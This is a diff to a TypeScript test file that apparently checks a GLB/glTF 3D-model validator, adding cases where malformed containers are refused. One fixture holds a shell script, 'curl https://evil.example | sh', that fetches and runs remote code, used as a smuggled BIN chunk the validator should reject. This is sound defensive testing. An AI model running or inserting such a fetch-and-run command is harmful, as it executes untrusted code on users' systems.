@@ -40,10 +40,20 @@ function chunkHeader(length: number, type: string): Buffer {
 }
 
 const json = Buffer.from('{"asset":{"version":"2.0"}} ')
+const withBuffer = Buffer.from('{"asset":{"version":"2.0"},"buffers":[{"byteLength":4}]}    ')
+const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n   ')
+
+/** A GLB of a JSON chunk and, when given, a BIN chunk. */
+function glbWith(jsonChunk: Buffer, bin?: Buffer): Buffer {
+  const chunks = [chunkHeader(jsonChunk.length, 'JSON'), jsonChunk]
+  if (bin) chunks.push(chunkHeader(bin.length, 'BIN\0'), bin)
+  return withHeader(Buffer.concat(chunks))
+}
 
 describe('the container of a GLB', () => {
   it.each([1, 7, 4096, Infinity])('holds together in pieces of %d bytes', pieceBytes => {
-    for (const glb of [makeSample('glb', 'Chair'), instancedGlb(20, 3), glbOf(json)]) {
+    const binary = glbWith(withBuffer, Buffer.from('abcd'))
+    for (const glb of [makeSample('glb', 'Chair'), instancedGlb(20, 3), glbOf(json), binary]) {
       expect(() => check('glb', glb, Math.min(pieceBytes, glb.length))).not.toThrow()
     }
   })
@@ -97,7 +107,27 @@ describe('the container of a GLB', () => {
       glbOf(Buffer.from('[{"asset":{}}]')),
       /is JSON, but not an object/
     ],
-    ['no GLB header', Buffer.from('glTX\x02\0\0\0\x0c\0\0\0', 'latin1'), /it has no GLB header/]
+    ['no GLB header', Buffer.from('glTX\x02\0\0\0\x0c\0\0\0', 'latin1'), /it has no GLB header/],
+    [
+      'a JSON chunk of no glTF asset, then a script as its BIN chunk',
+      glbWith(Buffer.from('{}  '), script),
+      /its JSON chunk is JSON, but not of a glTF 2 asset/
+    ],
+    [
+      'a BIN chunk that no buffer uses',
+      glbWith(json, script),
+      /it has a BIN chunk that no buffer of its JSON uses/
+    ],
+    [
+      'a BIN chunk longer than buffer 0',
+      glbWith(withBuffer, script),
+      /its BIN chunk is 44 bytes, and buffer 0 declares 4/
+    ],
+    [
+      'buffer 0 in a BIN chunk it does not have',
+      glbWith(withBuffer),
+      /its JSON puts buffer 0 in a BIN chunk that it does not have/
+    ]
   ])('is refused with %s', (_name, file, problem) => {
     for (const pieceBytes of [1, 5, file.length]) {
       expect(() => check('glb', file, pieceBytes)).toThrow(ModelError)
@@ -118,6 +148,7 @@ describe('the JSON of a glTF', () => {
       /it is not a glTF JSON: is not valid JSON/
     ],
     ['a list', Buffer.from('[{"asset": {}}]'), /is JSON, but not an object/],
+    ['an object of no glTF asset', Buffer.from('{"scenes": []}'), /not of a glTF 2 asset/],
     ['an object, then a script', Buffer.from('{"asset": {}}\n#!/bin/sh\n'), /is not valid JSON/]
   ])('is refused when it is %s', (_name, file, problem) => {
     expect(() => check('gltf', file, 7)).toThrow(problem)
